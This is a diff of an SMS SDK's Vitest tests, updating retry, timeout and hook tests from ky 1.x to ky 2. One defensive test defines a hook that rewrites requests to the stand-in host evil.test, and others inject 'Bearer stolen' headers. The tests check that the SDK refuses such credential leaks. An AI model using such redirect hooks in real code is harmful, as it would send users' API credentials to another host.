@@ -1,4 +1,4 @@
-// The request path on ky, checked on the wire: ky 1.x's known edges against the contract, the
+// The request path on ky 2, checked on the wire: ky's known edges against the contract, the
 // policy ky carries (statuses, Retry-After, backoff), hooks, totalTimeout and Deprecation/Sunset.
 // These replace the unit tests of the hand-written retry helpers (isRetryableStatus,
 // parseRetryAfter, retryDelay) that ky made unnecessary: the same behaviour, asserted on requests.
@@ -38,7 +38,11 @@ const ok = () => HttpResponse.json(message, { headers: { 'x-request-id': 'req_ok
 
 /** Fake timers for waits; lets I/O and timers up to `ms` run, then reports how many requests were made. */
 function fakeClock() {
-  vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout', 'Date'], now: new Date('2026-03-01T12:00:00Z') });
+  // ky 2 times the totalTimeout with performance.now(), so that clock is faked too.
+  vi.useFakeTimers({
+    toFake: ['setTimeout', 'clearTimeout', 'Date', 'performance'],
+    now: new Date('2026-03-01T12:00:00Z'),
+  });
   return async (ms: number): Promise<number> => {
     await vi.advanceTimersByTimeAsync(ms);
     return wire.length;
@@ -132,7 +136,7 @@ describe('backoff ceilings (was retryDelay)', () => {
   });
 });
 
-describe("ky 1.x's edges", () => {
+describe("ky's edges", () => {
   it('retries a POST after a network error, because POST is listed (ky issue 692), body and key intact', async () => {
     let n = 0;
     const bodies: string[] = [];
@@ -166,13 +170,17 @@ describe("ky 1.x's edges", () => {
     expect(wire.map((r) => r.body)).toEqual(Array(3).fill({ to: '447700900123', message: send.message }));
   });
 
-  it('runs beforeRequest hooks on every attempt, with the retry count', async () => {
-    const seen: number[] = [];
+  // ky 2 runs beforeRequest once per call (ky 1 ran it on every attempt); beforeRetry sees each retry.
+  it('runs beforeRequest hooks once and beforeRetry hooks before each retry, with the retry count', async () => {
+    const seen: string[] = [];
     sequence('get', `${BASE}/sms/messages/msg_1`, [fail(500), fail(500), ok]);
     await client({
-      hooks: { beforeRequest: [(_r, _o, { retryCount }) => void seen.push(retryCount)] },
+      hooks: {
+        beforeRequest: [({ retryCount }) => void seen.push(`request ${retryCount}`)],
+        beforeRetry: [({ retryCount }) => void seen.push(`retry ${retryCount}`)],
+      },
     }).sms.messages.retrieve('msg_1');
-    expect(seen).toEqual([0, 1, 2]);
+    expect(seen).toEqual(['request 0', 'retry 1', 'retry 2']);
     expect(wire).toHaveLength(3);
   });
 
@@ -230,7 +238,7 @@ describe('user hooks', () => {
           );
         },
       ],
-      afterResponse: [(_r, _o, response) => void order.push(`${who}:afterResponse ${response.status}`)],
+      afterResponse: [({ response }) => void order.push(`${who}:afterResponse ${response.status}`)],
     });
     await client({ logLevel: 'info', hooks: hooks('client') }).sms.messages.retrieve('msg_1', {
       hooks: hooks('call'),
@@ -242,23 +250,22 @@ describe('user hooks', () => {
       'call:afterResponse 500',
       'client:beforeRetry after the SDK',
       'call:beforeRetry after the SDK',
-      'client:beforeRequest',
-      'call:beforeRequest',
       'client:afterResponse 200',
       'call:afterResponse 200',
     ]);
   });
 
-  it('can read response bodies in afterResponse and beforeError', async () => {
+  // ky 2 reads an error's body itself, into `error.data` (its `response` body is then used).
+  it('can read response bodies in afterResponse, and in beforeError as error.data', async () => {
     const read: string[] = [];
     sequence('get', `${BASE}/sms/messages/msg_1`, [fail(404)]);
     const { error } = await settle(
       client().sms.messages.retrieve('msg_1', {
         hooks: {
-          afterResponse: [async (_r, _o, response) => void read.push(await response.text())],
+          afterResponse: [async ({ response }) => void read.push(await response.text())],
           beforeError: [
-            async (e) => {
-              read.push(await e.response.text());
+            ({ error: e }) => {
+              read.push(JSON.stringify((e as Error & { data?: unknown }).data));
               return e;
             },
           ],
@@ -272,14 +279,15 @@ describe('user hooks', () => {
 
   it('cannot send the credential to another host, from beforeRequest or a forced retry', async () => {
     server.use(http.all('https://evil.test/*', () => HttpResponse.json(message)));
-    const toEvil = (request: Request) => new Request(request.url.replace(BASE, 'https://evil.test'), request);
+    const toEvil = ({ request }: { request: Request }) =>
+      new Request(request.url.replace(BASE, 'https://evil.test'), request);
     const viaBeforeRequest = await settle(
       client().sms.messages.retrieve('msg_1', { hooks: { beforeRequest: [toEvil] } }),
     );
     sequence('get', `${BASE}/sms/messages/msg_1`, [ok]);
     const viaRetry = await settle(
       client().sms.messages.retrieve('msg_1', {
-        hooks: { afterResponse: [(request) => ky.retry({ request: toEvil(request) })] },
+        hooks: { afterResponse: [(state) => ky.retry({ request: toEvil(state) })] },
       }),
     );
     for (const { error } of [viaBeforeRequest, viaRetry]) {
@@ -295,9 +303,15 @@ describe('user hooks', () => {
     await client({
       hooks: {
         beforeRequest: [
-          (request, _o, { retryCount }) => {
+          ({ request }) => {
             request.headers.set('authorization', 'Bearer stolen');
             request.headers.set('service-version', '1999-01-01');
+            request.headers.set('idempotency-key', 'hook-0');
+          },
+        ],
+        beforeRetry: [
+          ({ request, retryCount }) => {
+            request.headers.set('authorization', 'Bearer stolen');
             request.headers.set('idempotency-key', `hook-${retryCount}`);
           },
         ],
@@ -319,7 +333,10 @@ describe('user hooks', () => {
   it('keeps the generated key the same on every attempt whatever a hook does', async () => {
     sequence('post', `${BASE}/sms/messages`, [fail(500), fail(500), ok]);
     await client({
-      hooks: { beforeRequest: [(request) => request.headers.set('idempotency-key', crypto.randomUUID())] },
+      hooks: {
+        beforeRequest: [({ request }) => request.headers.set('idempotency-key', crypto.randomUUID())],
+        beforeRetry: [({ request }) => request.headers.set('idempotency-key', crypto.randomUUID())],
+      },
     }).sms.messages.create(send);
     expect(new Set(wire.map((r) => r.headers['idempotency-key'])).size).toBe(1);
   });
@@ -327,7 +344,7 @@ describe('user hooks', () => {
   it('lets a hook add its own headers (tracing)', async () => {
     sequence('get', `${BASE}/sms/messages/msg_1`, [ok]);
     await client({
-      hooks: { beforeRequest: [(request) => request.headers.set('traceparent', '00-abc-def-01')] },
+      hooks: { beforeRequest: [({ request }) => request.headers.set('traceparent', '00-abc-def-01')] },
     }).sms.messages.retrieve('msg_1');
     expect(wire[0]?.headers['traceparent']).toBe('00-abc-def-01');
   });
@@ -501,7 +518,7 @@ describe('a 409 for a key reused with another body', () => {
     const seen: number[] = [];
     const { error } = await settle(
       client({ maxRetries: 3 }).sms.messages.create(send, {
-        hooks: { afterResponse: [(_request, _options, response) => void seen.push(response.status)] },
+        hooks: { afterResponse: [({ response }) => void seen.push(response.status)] },
       }),
     );
     expect(wire).toHaveLength(1);
